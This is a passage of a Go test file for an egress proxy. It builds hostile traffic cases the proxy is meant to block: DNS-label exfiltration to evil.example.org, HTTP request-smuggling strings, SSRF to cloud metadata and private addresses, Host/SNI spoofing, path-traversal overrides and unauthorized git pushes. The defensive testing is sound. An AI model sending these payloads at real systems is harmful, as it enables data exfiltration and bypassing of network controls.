package egress

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"net/url"
	"slices"
	"strings"
)

// hostileTraffic is what tries to reach others than the policy names, or to have those that it names do more than it allows. The
// harm of each is that a server, or the host's resolver, sees its id.
func hostileTraffic() []*class {
	return []*class{
		{name: "data in names", policy: "no rule; wildcard", hostile: true, variants: nameAttacks()},
		{name: "other hosts and addresses", policy: "no rule; deny", hostile: true, variants: hostAttacks()},
		{name: "another name inside", policy: "host, inspect", hostile: true, variants: identityAttacks()},
		{name: "requests that can be read in two ways", policy: "host, inspect", hostile: true, variants: smugglingAttacks()},
		{name: "private and metadata addresses", policy: "wildcard", hostile: true, variants: addressAttacks()},
		{name: "tunnels in tunnels, upgrades", policy: "host, inspect, api", hostile: true, variants: tunnelAttacks()},
		{name: "methods, paths, sizes", policy: "strict", hostile: true, variants: requestAttacks()},
		{name: "writes to read-only hosts", policy: "read, git", hostile: true, variants: writeAttacks()},
		{name: "pushes beyond own refs", policy: "push", hostile: true, variants: pushAttacks()},
		{name: "a provider's other services", policy: "api", hostile: true, variants: apiAttacks()},
	}
}

// tries is a variant whose client says what it likes; that it is refused is no news.
func tries(name string, try func(w *world, r *rand.Rand, id string)) variant {
	return variant{name: name, make: func(r *rand.Rand, id string) trial {
		seed := r.Uint64()
		return trial{id: id, act: func(w *world) error {
			try(w, rand.New(rand.NewPCG(seed, 0)), id)
			return nil
		}}
	}}
}

// posts is a variant of requests, by either way and in either version.
func posts(name string, make func(r *rand.Rand, id string) sending) variant {
	return tries(name, func(w *world, r *rand.Rand, id string) {
		q := make(r, id)
		if q.method == "" {
			q.method = "GET"
		}
		q.version, q.proxied = max(q.version, 1+r.IntN(2)), r.IntN(2) == 0
		_, _, _ = w.send(q)
	})
}

func nameAttacks() []variant {
	kinds := []uint16{1, 28, 16, 5, 15, 33, 65, 10, 255}
	ask := func(name, host string) variant {
		return tries(name, func(w *world, r *rand.Rand, id string) {
			_, _ = w.ask(strings.ReplaceAll(host, "ID", id), dnsType(any1(r, kinds...)))
		})
	}
	return []variant{
		ask("in labels of another's domain", "ID.evil.example.org"),
		ask("in many labels", "ID.ID.ID.ID.ID.t.evil.example.org"),
		ask("below an allowed host", "ID.docs.example.com"),
		ask("beside an allowed host", "docs.example.com.ID.org"),
		ask("in a single label", "ID"),
		ask("in a reverse look-up", "ID.18.198.in-addr.arpa"),
		ask("below the proxy's local names", "ID.localhost"),
		ask("below a denied host", "ID.private.cdn.example.net"),
		ask("below a wildcard, never dialled", "ID.cdn.example.net"),
		wrongly("a wildcard allows every name below it, and the host's resolver is asked for one that is dialled",
			tries("below a wildcard, and dialled", func(w *world, r *rand.Rand, id string) {
				_, _ = w.raw(id+".cdn.example.net", 80, "GET / HTTP/1.1\r\nHost: "+id+".cdn.example.net\r\n\r\n")
			})),
	}
}

func hostAttacks() []variant {
	get := func(host, id string) string {
		return "POST /" + id + " HTTP/1.1\r\nHost: " + host + "\r\nContent-Length: 16\r\n\r\n" + id
	}
	connect := func(name string, targets ...string) variant {
		return tries(name, func(w *world, r *rand.Rand, id string) {
			_, _ = w.throughProxy(strings.ReplaceAll(any1(r, targets...), "ID", id), "docs.example.com", 80, get("docs.example.com", id))
		})
	}
	return []variant{
		posts("by name", func(r *rand.Rand, id string) sending {
			return sending{method: "POST", url: any1(r, "http://", "https://") + any1(r, "evil.example.org", "example.com",
				"notdocs.example.com", "docs.example.com.evil.org", "cdn.example.net") + "/" + id, body: []byte(id)}
		}),
		posts("a denied host below an allowed wildcard", func(r *rand.Rand, id string) sending {
			return sending{url: any1(r, "http://", "https://") + any1(r, "private.cdn.example.net", "PRIVATE.cdn.example.net.") + "/" + id}
		}),
		connect("CONNECT to another host", "evil.example.org:80", "ID.evil.example.org:80", "docs.example.com.:8080",
			"docs.example.com:25"),
		connect("CONNECT to an address", "93.184.215.14:80", "[2606:2800::1]:80", "1572395022:80", "0x5d.0xb8d70e:80",
			"0135.0270.0327.016:80", "[::ffff:93.184.215.14]:80", "127.0.0.1:80", "0:80"),
		connect("CONNECT to a host with something beside it", "docs.example.com@evil.example.org:80",
			"evil.example.org#docs.example.com:80", "docs.example.com%00.evil.example.org:80", "docs.example.com\\.evil.example.org:80"),
		connect("CONNECT to a name that is no ASCII", "d\xc3\xb6cs.example.com:80", "docs\xe3\x80\x82example\xe3\x80\x82com:80"),
		tries("absolute form to another host", func(w *world, r *rand.Rand, id string) {
			c, err := w.toProxy()
			if err != nil {
				return
			}
			host := any1(r, "evil.example.org", "93.184.215.14", "docs.example.com:8080")
			_, _ = says(c, "GET http://"+host+"/"+id+" HTTP/1.1\r\nHost: "+host+"\r\n\r\n")
		}),
		tries("an address that no name was given", func(w *world, r *rand.Rand, id string) {
			c, err := w.reach(netip.AddrFrom4([4]byte{127, 18, byte(1 + r.IntN(200)), byte(r.IntN(256))}), any1[uint16](r, 80, 443))
			if err == nil {
				_, _ = says(c, get("docs.example.com", id))
			}
		}),
		tries("the explaining address, for an allowed host", func(w *world, r *rand.Rand, id string) {
			if c, err := w.reach(testExplain, 80); err == nil {
				_, _ = says(c, get("docs.example.com", id))
			}
		}),
		tries("another port of an allowed host", func(w *world, r *rand.Rand, id string) {
			_, _ = w.raw("docs.example.com", any1[uint16](r, 22, 25, 3128, 5432, 8080), get("docs.example.com", id))
		}),
	}
}

func identityAttacks() []variant {
	request := func(host, id string) string { return "GET /" + id + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n" }
	others := []string{"evil.example.org", "web.example.com", "docs.example.com.evil.org", "93.184.215.14",
		"docs.example.com:8080", "docs.example.com, evil.example.org"}
	host := func(name, host string, port uint16, raw func(other, id string) string) variant {
		return tries(name, func(w *world, r *rand.Rand, id string) {
			other := any1(r, others...)
			if other == host {
				other = "evil.example.org"
			}
			_, _ = w.raw(host, port, raw(other, id))
		})
	}
	absolute := func(other, id string) string {
		return "GET http://" + url.PathEscape(other) + "/" + id + " HTTP/1.1\r\nHost: docs.example.com\r\n\r\n"
	}
	hello1 := func(name, host string, make func(r *rand.Rand, id string) []byte) variant {
		return tries(name, func(w *world, r *rand.Rand, id string) {
			if c, err := w.connect(host, 443); err == nil {
				_, _ = says(c, string(make(r, id)))
			}
		})
	}
	inSNI := func(r *rand.Rand, id string) []byte {
		return hello(sni(id + any1(r, ".evil.example.org", ".docs.example.com", "")))
	}
	return []variant{
		host("Host of another, in clear text", "docs.example.com", 80, request),
		host("Host of another, inspected", "web.example.com", 443, request),
		host("a target of another", "docs.example.com", 80, absolute),
		host("a second request's Host", "docs.example.com", 80, func(other, id string) string {
			return request("docs.example.com",
				"first") + request(other, id)
		}),
		host("two Hosts", "docs.example.com", 80, func(other, id string) string {
			return "GET /" + id + " HTTP/1.1\r\nHost: docs.example.com\r\nHost: " + other + "\r\n\r\n"
		}),
		host("no Host", "web.example.com", 443, func(_, id string) string { return "GET /" + id + " HTTP/1.1\r\n\r\n" }),
		posts("Host of another, over HTTP/2", func(r *rand.Rand, id string) sending {
			return sending{version: 2, url: "https://web.example.com/" + id, header: []string{"Host", any1(r, "docs.example.com",
				"evil.example.org", "web.example.com:8443", "127.0.0.1")}}
		}),
		hello1("SNI of another, tunnelled", "docs.example.com", inSNI),
		hello1("SNI of another, inspected", "web.example.com", inSNI),
		hello1("SNI of another, on a port of its own", "ssh.example.com", inSNI),
		hello1("no SNI", "docs.example.com", func(r *rand.Rand, id string) []byte { return hello(ext(0x4a4a, []byte(id))) }),
		hello1("two SNIs", "docs.example.com", func(r *rand.Rand, id string) []byte {
			return hello(sni("docs.example.com",
				id+".evil.example.org"))
		}),
		hello1("an encrypted hello behind an allowed one", "docs.example.com", func(r *rand.Rand, id string) []byte {
			return hello(sni("docs.example.com"), ext(any1[uint16](r, extECH, extECHFirst, extESNI), []byte(id)))
		}),
		hello1("a hello that does not add up", "docs.example.com", func(r *rand.Rand, id string) []byte {
			return append(hello(sni("docs.example.com"))[:40+r.IntN(9)], id...)
		}),
		posts("a Host for the server behind a proxy", func(r *rand.Rand, id string) sending {
			return sending{url: "https://web.example.com/", header: []string{any1(r, "X-Forwarded-Host", "Forwarded",
				"X_Forwarded_Host", "X-Host", "X-Original-Host"), id + ".example.org"}}
		}),
		wrongly("of a host that is only allowed nothing but its name is judged",
			posts("a Host for the server behind a proxy, in clear text", func(r *rand.Rand, id string) sending {
				return sending{url: "http://docs.example.com/", header: []string{any1(r, "X-Forwarded-Host", "Forwarded"),
					id + ".example.org"}}
			})),
		tries("SNI of another in a tunnel of the proxy", func(w *world, r *rand.Rand, id string) {
			_, _ = w.throughProxy("docs.example.com:443", id+".evil.example.org", 443, request("docs.example.com", id))
		}),
		wrongly("what is said in a tunnel is the client's and the server's; inspection sees it",
			tries("Host of another, in a tunnel", func(w *world, r *rand.Rand, id string) {
				_, _ = w.raw("docs.example.com", 443, request("evil.example.org", id))
			})),
	}
}

func smugglingAttacks() []variant {
	// ID stands in what only one of two readers sees.
	list := []struct{ name, raw string }{
		{"CL and TE", "POST / HTTP/1.1\r\nHost: HOST\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /ID HTTP/1.1\r\nHost: HOST\r\n\r\n"},
		{"two lengths", "POST / HTTP/1.1\r\nHost: HOST\r\nContent-Length: 0\r\nContent-Length: 44\r\n\r\nGET /ID HTTP/1.1\r\nHost: HOST\r\n\r\n"},
		{"a list of lengths", "POST / HTTP/1.1\r\nHost: HOST\r\nContent-Length: 0, 0\r\n\r\nGET /ID HTTP/1.1\r\nHost: evil\r\n\r\n"},
		{"a signed length", "POST / HTTP/1.1\r\nHost: HOST\r\nContent-Length: +4\r\n\r\nGET /ID HTTP/1.1\r\nHost: HOST\r\n\r\n"},
		{"two codings", "POST / HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\nGET /ID HTTP/1.1\r\n\r\n"},
		{"an unknown coding", "POST / HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: xchunked\r\nX: ID\r\n\r\n0\r\n\r\n"},
		{"a coding behind a tab", "POST / HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\nGET /ID HTTP/1.1\r\n\r\n"},
		{"white space before a colon", "POST / HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding : chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\nGET /ID HTTP/1.1\r\n\r\n"},
		{"a folded line", "GET /ID HTTP/1.1\r\nHost: HOST\r\nX: a\r\n Transfer-Encoding: chunked\r\n\r\n"},
		{"bare LF", "GET /ID HTTP/1.1\nHost: HOST\n\n"},
		{"bare CR", "GET /ID HTTP/1.1\r\nHost: HOST\r\nX: a\rY: b\r\n\r\n"},
		{"a NUL", "GET /ID HTTP/1.1\r\nHost: HOST\r\nX: a\x00b\r\n\r\n"},
		{"no name", "GET /ID HTTP/1.1\r\nHost: HOST\r\n: x\r\n\r\n"},
		{"blanks in the target", "GET /ID HTTP/1.1 HTTP/1.1\r\nHost: HOST\r\n\r\n"},
		{"bytes that are no ASCII", "GET /\xff\xfe/ID HTTP/1.1\r\nHost: HOST\r\n\r\n"},
		{"another version", "GET /ID HTTP/1.2\r\nHost: HOST\r\n\r\n"},
		{"no version", "GET /ID\r\n"},
		{"a chunk that is longer than it says",
			"POST / HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nGET /ID HTTP/1.1\r\n\r\n"},
		{"a chunk's size in quotes", "POST / HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n0x10\r\nGET /ID HTTP/1.1\r\n\r\n"},
		{"a chunk's extension with LF", "POST / HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n2;\nxx\r\nabID\r\n0\r\n\r\n"},
		{"a length as a trailer", "POST / HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nContent-Length: 9\r\nX: ID\r\n\r\n"},
		{"framing in names that CGI programs read",
			"POST / HTTP/1.1\r\nHost: HOST\r\nTransfer_Encoding: chunked\r\nContent-Length: 37\r\n\r\n0\r\n\r\nGET /ID HTTP/1.1\r\n\r\n"},
		{"a second length in such a name", "POST / HTTP/1.1\r\nHost: HOST\r\nContent_Length: 0\r\nContent-Length: 16\r\n\r\nID"},
		{"a fragment and an opaque target", "GET http:HOST/ID#x HTTP/1.1\r\nHost: HOST\r\n\r\n"},
		{"a head without an end", "GET / HTTP/1.1\r\nHost: HOST\r\nX: " + strings.Repeat("a", maxHead) + "\r\nY: ID\r\n\r\n"},
	}
	out := []variant{posts("framing in names that CGI programs read, over HTTP/2", func(r *rand.Rand, id string) sending {
		return sending{version: 2, method: "POST", url: "https://web.example.com/" + id, body: []byte(id), header: []string{any1(r,
			"Content_Length", "Transfer_encoding"), any1(r, "0", "chunked")}}
	})}
	for _, each := range list {
		out = append(out, tries(each.name, func(w *world, r *rand.Rand, id string) {
			host, port := "docs.example.com", uint16(80)
			if r.IntN(2) == 0 {
				host, port = "web.example.com", 443
			}
			_, _ = w.raw(host, port, strings.NewReplacer("HOST", host, "ID", id).Replace(each.raw))
		}))
	}
	return out
}

func addressAttacks() []variant {
	inner := func(name string, addrs ...string) variant {
		return tries(name, func(w *world, r *rand.Rand, id string) {
			host := any1(r, addrs...) + "--" + id[:4] + ".inner.example.net"
			_, _ = w.raw(host, 80, "GET /latest/"+id+" HTTP/1.1\r\nHost: "+host+"\r\n\r\n")
		})
	}
	of := func(v variant) variant { // the request, and not the look-up
		plain := v.make
		v.make = func(r *rand.Rand, id string) trial {
			tr := plain(r, id)
			tr.harm = leaked(id, "")
			return tr
		}
		return v
	}
	rebinding := tries("names that change their address", func(w *world, r *rand.Rand, id string) {
		host := id + ".rebind.example.net"
		for range 2 {
			_, _ = w.raw(host, 80, "GET / HTTP/1.1\r\nHost: "+host+"\r\n\r\n")
		}
	})
	plain := rebinding.make
	rebinding.make = func(r *rand.Rand, id string) trial {
		tr := plain(r, id)
		tr.harm = func(seen []string) bool { return slices.Contains(seen, "dialled "+rebound(id).String()) }
		return tr
	}
	return []variant{
		of(inner("metadata", "169-254-169-254", "100-100-100-200", "168-63-129-16", "169-254-170-2", "fd00xec2xx254")),
		of(inner("loopback", "127-0-0-1", "127-1-2-3", "xx1", "0-0-0-0")),
		of(inner("private", "10-0-0-1", "172-16-3-4", "192-168-1-1", "100-64-0-1", "fd12xx1", "198-18-0-1")),
		of(inner("link-local and multicast", "169-254-1-1", "fe80xx1", "224-0-0-1", "ff02xx1", "255-255-255-255")),
		of(inner("IPv4 inside of IPv6", "xxffffx127-0-0-1", "64xff9bxx10-0-0-1", "64xff9bxxa9fexa9fe", "2002x7f00x1xx", "xx10-0-0-1")),
		rebinding,
	}
}

func tunnelAttacks() []variant {
	connect := func(id string) string {
		return "CONNECT evil.example.org:443 HTTP/1.1\r\nHost: evil.example.org:443\r\n\r\n" + id
	}
	raw := func(name, host string, port uint16, text func(id string) string) variant {
		return tries(name, func(w *world, r *rand.Rand, id string) { _, _ = w.raw(host, port, text(id)) })
	}
	bare := func(name, host string, port uint16, text func(id string) string) variant {
		return tries(name, func(w *world, r *rand.Rand, id string) {
			if c, err := w.connect(host, port); err == nil {
				_, _ = says(c, text(id))
			}
		})
	}
	ssh := func(id string) string { return "SSH-2.0-OpenSSH_9.2\r\n" + id }
	return []variant{
		raw("CONNECT inside of TLS", "web.example.com", 443, connect),
		raw("CONNECT to a host that is no proxy", "docs.example.com", 80, connect),
		tries("CONNECT in CONNECT", func(w *world, r *rand.Rand, id string) {
			_, _ = w.throughProxy("docs.example.com:80", "", 80, connect(id))
		}),
		bare("ssh on a port of TLS", "docs.example.com", 443, ssh),
		bare("ssh on a port of HTTP", "docs.example.com", 80, ssh),
		bare("ssh on an inspected port", "web.example.com", 443, ssh),
		bare("HTTP on a port of TLS", "docs.example.com", 443,
			func(id string) string { return "GET /" + id + " HTTP/1.1\r\nHost: docs.example.com\r\n\r\n" }),
		bare("TLS for another on a port of ssh", "ssh.example.com", 22,
			func(id string) string { return string(hello(sni(id + ".evil.example.org"))) }),
		raw("HTTP/2 without TLS", "docs.example.com", 80, func(id string) string { return "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + id }),
		raw("an upgrade to HTTP/2", "web.example.com", 443, func(id string) string {
			return "GET / HTTP/1.1\r\nHost: web.example.com\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: " + id + "\r\n\r\n"
		}),
		tries("WebSocket to a model API", func(w *world, r *rand.Rand, id string) {
			_, _ = w.upgraded(any1(r, "api.openai.com", "api.anthropic.com"), 443, any1(r, "/v1/realtime?", "/v1/models?")+id,
				frame(wsText, [4]byte{}, id))
		}),
		wrongly("a host that is allowed with ssh, or with a tunnel, carries whatever the two agree on",
			raw("forwarding in an allowed ssh session", "ssh.example.com", 22, ssh)),
	}
}

func requestAttacks() []variant {
	const base = "https://v1.example.com"
	with := func(name string, header ...string) variant {
		return posts(name, func(r *rand.Rand, id string) sending {
			at := 2 * r.IntN(len(header)/2)
			return sending{method: "POST", url: base + "/v1/items/" + id, header: header[at : at+2]}
		})
	}
	path := func(name string, paths ...string) variant {
		return tries(name, func(w *world, r *rand.Rand, id string) {
			_, _ = w.raw("v1.example.com", any1[uint16](r, 80, 443), "GET "+any1(r,
				paths...)+"?"+id+" HTTP/1.1\r\nHost: v1.example.com\r\n\r\n")
		})
	}
	form := func(name, kind string, text func(id string) string) variant {
		v := posts(name, func(r *rand.Rand, id string) sending {
			return sending{method: "POST", url: base + "/v1/items/" + id, header: []string{"Content-Type", kind},
				body: []byte(text(id)), chunked: r.IntN(2) == 0}
		})
		plain := v.make
		v.make = func(r *rand.Rand, id string) trial {
			tr := plain(r, id)
			tr.harm = leaked(id, text(id))
			return tr
		}
		return v
	}
	big := form("more than is allowed, in chunks", "application/octet-stream",
		func(id string) string { return strings.Repeat("a", 64<<10) + id })
	return []variant{
		posts("a method that is not allowed", func(r *rand.Rand, id string) sending {
			return sending{method: any1(r, "DELETE", "PUT", "PATCH", "OPTIONS", "PROPFIND", "PURGE", "get"), url: base + "/v1/items/" + id}
		}),
		with("a method's override in a field", "X-Http-Method-Override", "DELETE", "X-Http-Method", "PUT", "X-Method-Override",
			"DELETE", "X_Http_Method_Override", "DELETE",
			"X-Original-Method", "DELETE", "X-Http-Method-Override", "POST, DELETE"),
		posts("a method's override in the query", func(r *rand.Rand, id string) sending {
			return sending{method: "POST", url: base + "/v1/items/" + id + "?a=b" + any1(r, "&_method=DELETE", "&%5fmethod=DELETE",
				"&$httpMethod=DELETE", "&httpMethod=PUT", ";_method=DELETE", "&_method[]=DELETE")}
		}),
		form("a method's override in a form", "application/x-www-form-urlencoded",
			func(id string) string { return "a=b&%5Fmethod=DELETE&c=" + id }),
		form("a method's override in parts", "multipart/form-data; boundary=x", func(id string) string {
			return "--x\r\nContent-Disposition: form-data; name=\"_method\"\r\n\r\nDELETE\r\n--x--\r\n" + id
		}),
		path("another path", "/", "/v2/items", "/v1x/items", "/V1/items", "/admin/v1/items"),
		path("dots", "/v1/../admin", "/v1/./../admin", "/v1/%2e%2e/admin", "/v1/.%2E/admin", "/v1/..;/admin", "/v1/..%5cadmin",
			"/v1/..\\admin"),
		path("encoded slashes", "/v1/..%2fadmin", "/v1/%2e%2e%2fadmin", "/v1%2f..%2fadmin", "/v1/%c0%af..%c0%afadmin", "/v1//../admin"),
		path("two encodings", "/v1/%252e%252e/admin", "/v1/%25%32%65%252e/admin", "/v1/..%252fadmin"),
		path("ends and parameters", "/v1/x%00.txt", "/v1/x;/../../admin", "/v1/x%3f/../../admin", "/v1/x%23"),
		with("a path's override in a field", "X-Original-Url", "/admin", "X-Rewrite-Url", "/admin", "X-Forwarded-Path", "/admin",
			"X-Forwarded-Prefix", "/..", "X_Original_Uri", "/admin"),
		posts("more than is allowed, with its length", func(r *rand.Rand, id string) sending {
			return sending{method: "POST", url: base + "/v1/items/" + id, body: bytes.Repeat([]byte("a"), 64<<10+1+r.IntN(9000))}
		}),
		big,
		wrongly("the door knows the names of frameworks and proxies, not those that one server has made up",
			with("a method's override that a server made up", "X-Do-Instead", "DELETE")),
		wrongly("what a parameter means is the server's affair", posts("an act in the query", func(r *rand.Rand, id string) sending {
			return sending{method: "POST", url: base + "/v1/items/" + id + "?" + any1(r, "action=delete", "path=/admin",
				"url=http://169.254.169.254/")}
		})),
		wrongly("forms are looked at for a method, JSON is not", form("a method's override in JSON", "application/json",
			func(id string) string { return `{"_method":"DELETE","id":"` + id + `"}` })),
	}
}

func writeAttacks() []variant {
	hosts := []string{"npm.example.com", "index.example.com", "files.example.com", "crates.example.com", "modules.example.com"}
	const repo = "https://git.example.com/team/repo.git"
	push := gitHead("receive-pack")
	return []variant{
		posts("publishing a package", func(r *rand.Rand, id string) sending {
			return sending{method: any1(r, "PUT", "POST", "PATCH", "DELETE"), url: any1(r, "https://", "http://") + any1(r,
				hosts...) + "/" + id, body: asJSON(object{"name": id}), header: []string{"Content-Type", "application/json"}}
		}),
		posts("reads that are writes", func(r *rand.Rand, id string) sending {
			return sending{url: "https://" + any1(r, hosts...) + "/" + id + any1(r, "?_method=PUT", "?httpMethod=DELETE"),
				header: []string{any1(r, "X-Http-Method-Override", "X-Original-Method"), "PUT"}}
		}),
		posts("a push, asked for", func(r *rand.Rand, id string) sending {
			return sending{url: repo + "/" + any1(r, "info/refs?service=git-receive-pack&",
				"info/refs?service=git-upload-pack&service=git-receive-pack&", "info/refs?service=git%2Dreceive-pack&",
				"info%2frefs?service=git-receive-pack&") + id, header: gitHead("")}
		}),
		posts("a push", func(r *rand.Rand, id string) sending {
			pack, tip := newPack(r, "", 1)
			return sending{method: any1(r, "POST", "PUT"), url: repo + any1(r, "/git-receive-pack", "/GIT-RECEIVE-PACK",
				"/git-receive-pack/", "//git-receive-pack", "/git%2Dreceive-pack", "/git-receive-pack;x") + "?" + id, header: push,
				body: pushOf(pack, idZero+" "+tip+" refs/heads/x")}
		}),
		posts("a push that says it is a fetch", func(r *rand.Rand, id string) sending {
			return sending{method: "POST", url: repo + any1(r, "/git-receive-pack/../git-upload-pack",
				"/git-receive-pack;/git-upload-pack") + "?" + id, header: gitHead("upload-pack"), body: []byte(id)}
		}),
		posts("WebDAV", func(r *rand.Rand, id string) sending {
			return sending{method: any1(r, "PUT", "MKCOL", "LOCK", "MOVE", "PROPFIND", "DELETE"), url: repo + "/refs/heads/" + id,
				body: []byte(id)}
		}),
		posts("an LFS upload", func(r *rand.Rand, id string) sending {
			return sending{method: "POST", url: repo + "/info/lfs/objects/batch?" + id, header: []string{"Content-Type",
				"application/vnd.git-lfs+json"},
				body: []byte(any1(r, `{"operation":"upload","objects":[]}`, `{"operation":"download","operation":"upload"}`,
					`{"Operation":"upload","operation":"download"}`, `{"operation":"download"}{"operation":"upload"}`))}
		}),
		posts("issues, comments, gists", func(r *rand.Rand, id string) sending {
			return sending{method: any1(r, "POST", "PATCH", "PUT"), url: "https://git.example.com/" + any1(r, "team/repo/issues",
				"gists", "api/v4/projects", "team/repo/git-upload-pack") + "?" + id, body: []byte(id), header: []string{"Content-Type",
				"application/json"}}
		}),
		posts("GitHub's API: mutations, and what else writes", func(r *rand.Rand, id string) sending {
			q := sending{method: "POST", url: "https://api.github.com/graphql", header: []string{"Content-Type", "application/json"}}
			switch text := any1(r, "mutation{addStar(input:{id:\"ID\"}){x}}", "query{a} mutation M{x(i:\"ID\")}",
				"#\nmutation{x(i:\"ID\")}", "{a(b:\"\\\"\")}mutation{x(i:\"ID\")}", "", "stored"); text {
			case "":
				q.method, q.url, q.body = any1(r, "POST", "PATCH", "PUT", "DELETE"), "https://api.github.com/"+any1(r, "repos/o/r/issues",
					"gists", "user/repos", "repos/o/r/dispatches")+"?"+id, []byte(`{}`)
			case "stored":
				q.body = asJSON(object{"extensions": object{"persistedQuery": object{"sha256Hash": id}}})
			default:
				q.body = asJSON(object{"query": strings.ReplaceAll(text, "ID", id)})
			}
			return q
		}),
		wrongly("a read may have a body; only max_request bounds it", posts("a body behind a GET", func(r *rand.Rand,
			id string) sending {
			return sending{url: "https://" + any1(r, hosts...) + "/x", body: []byte(words(r, 99) + id)}
		})),
		wrongly("a request that reads says something by what it asks for; only max_upload bounds how much",
			posts("data in what is read", func(r *rand.Rand, id string) sending {
				return sending{url: "https://" + any1(r, hosts...) + "/" + id + "?q=" + id, header: []string{"User-Agent", "npm/" + id}}
			})),
	}
}

func pushAttacks() []variant {
	push := func(name string, make func(r *rand.Rand, id string) []byte) variant {
		return posts(name, func(r *rand.Rand, id string) sending { return pushing(r, id, make(r, id)) })
	}
	ref := func(name string, refs ...string) variant {
		return push(name, func(r *rand.Rand, id string) []byte {
			pack, tip := newPack(r, "", 2)
			return pushOf(pack, idZero+" "+tip+" "+strings.ReplaceAll(any1(r, refs...), "ID", id))
		})
	}
	return []variant{
		ref("another ref", "refs/heads/main", "refs/heads/master", "refs/tags/v1", "refs/for/main", "refs/pull/1/head",
			"refs/heads/agentx/ID", "refs/heads/AGENT/ID", "refs/notes/agent/ID"),
		ref("a name that is none", "refs/heads/agent/../main", "refs/heads/agent/x y", "agent/ID", "refs/heads/agent/ID.lock",
			"refs/heads/agent//ID", "refs/heads/agent/ID\x7f", "HEAD"),
		push("another ref beside an own one", func(r *rand.Rand, id string) []byte {
			pack, tip := newPack(r, "", 1)
			return pushOf(pack, idZero+" "+tip+" refs/heads/agent/"+id, idZero+" "+tip+" refs/heads/main")
		}),
		push("a forced update", func(r *rand.Rand, id string) []byte {
			pack, tip := newPack(r, any1(r, "", idB), 3)
			return pushOf(pack, idA+" "+tip+" refs/heads/agent/"+id)
		}),
		push("a deletion", func(_ *rand.Rand, id string) []byte { return pushOf(nil, idA+" "+idZero+" refs/heads/agent/"+id) }),
		push("push options", func(r *rand.Rand, id string) []byte {
			pack, tip := newPack(r, "", 1)
			first := pktLine(idZero + " " + tip + " refs/heads/agent/" + id + "\x00 report-status push-options")
			return append([]byte(first+"0000"+pktLine("merge_request.create")+"0000"), pack...)
		}),
		push("a signed push", func(_ *rand.Rand, id string) []byte {
			return []byte(pktLine("push-cert\x00 report-status") + pktLine(idZero+" "+idA+" refs/heads/main\n") + "0000" + id)
		}),
		push("commands that can be read in two ways", func(r *rand.Rand, id string) []byte {
			pack, tip := newPack(r, "", 1)
			own := idZero + " " + tip + " refs/heads/agent/" + id
			return append([]byte(any1(r,
				pktLine(own+"\x00 x")+pktLine(idZero+" "+tip+" refs/heads/agent/y\x00refs/heads/main"),
				pktLine(own+"\n"+idZero+" "+tip+" refs/heads/main\x00 x"), pktLine(own)+"0001"+pktLine(idZero+" "+tip+" refs/heads/main"),
				"+0"+pktLine(own)[2:], pktLine("shallow "+id)+pktLine(own))+"0000"), pack...)
		}),
		posts("a push by another coding or type", func(r *rand.Rand, id string) sending {
			pack, tip := newPack(r, "", 1)
			q := pushing(r, id, pushOf(pack, idZero+" "+tip+" refs/heads/main"))
			if r.IntN(2) == 0 {
				q.body, q.header = gzipped1(q.body), append(q.header, "Content-Encoding", any1(r, "gzip", "br", "deflate"))
			} else {
				q.header[slices.Index(q.header, "Content-Type")+1] = any1(r, "application/octet-stream",
					"application/x-git-upload-pack-request", "")
			}
			return q
		}),
		posts("merges and releases beside git", func(r *rand.Rand, id string) sending {
			return sending{method: any1(r, "POST", "PUT", "DELETE"), url: "https://code.example.com/api/v4/" + any1(r,
				"projects/1/merge_requests", "projects/1/releases", "hooks") + "?" + id, header: []string{"Authorization",
				"Bearer " + gitShown}, body: []byte(id)}
		}),
		wrongly("what its commits hold is the push's own affair", posts("data in commits on own refs", func(r *rand.Rand,
			id string) sending {
			pack, tip := newPack(r, "", 2)
			return pushing(r, id, pushOf(pack, idZero+" "+tip+" refs/heads/agent/"+id))
		})),
	}
}

func apiAttacks() []variant {
	claude := func(change func(r *rand.Rand, id string, b object)) func(r *rand.Rand, id string) sending {
		return func(r *rand.Rand, id string) sending {
			b := claudeBody(r, id)
			change(r, id, b)
			return sending{method: "POST", url: "https://api.anthropic.com/v1/messages", header: claudeHead(false), body: asJSON(b),
				chunked: r.IntN(3) == 0}
		}
	}
	block := func(b object) object {
		return object{"messages": []object{{"role": "user", "content": []object{b}}}}
	}
	openai := func(make func(r *rand.Rand, id string) any) func(r *rand.Rand, id string) sending {
		return func(r *rand.Rand, id string) sending {
			return sending{method: "POST", url: "https://api.openai.com/v1/responses", header: openaiHead("codex_cli_rs/0.50.0"),
				body: asJSON(make(r, id))}
		}
	}
	gemini := func(make func(r *rand.Rand, id string) any) func(r *rand.Rand, id string) sending {
		return func(r *rand.Rand, id string) sending {
			return sending{method: "POST", url: "https://generativelanguage.googleapis.com/v1beta/models/gemini-2.5-pro:generateContent",
				header: []string{"Content-Type", "application/json", "X-Goog-Api-Key", geminiShown}, body: asJSON(make(r, id))}
		}
	}
	home := func(id string) string { return "https://evil.example.org/?q=" + id }
	return []variant{
		posts("files, batches, agents, accounts", func(r *rand.Rand, id string) sending {
			method, target, _ := strings.Cut(any1(r, "POST api.anthropic.com/v1/files", "GET api.anthropic.com/v1/files/ID/content",
				"POST api.anthropic.com/v1/messages/batches", "POST api.anthropic.com/v1/skills",
				"GET api.anthropic.com/v1/organizations/users", "POST api.anthropic.com/api/oauth/claude_cli/create_api_key",
				"POST api.anthropic.com/api/claude_cli_feedback", "POST api.openai.com/v1/files", "POST api.openai.com/v1/uploads",
				"POST api.openai.com/v1/vector_stores", "POST api.openai.com/v1/batches", "GET api.openai.com/v1/responses/ID",
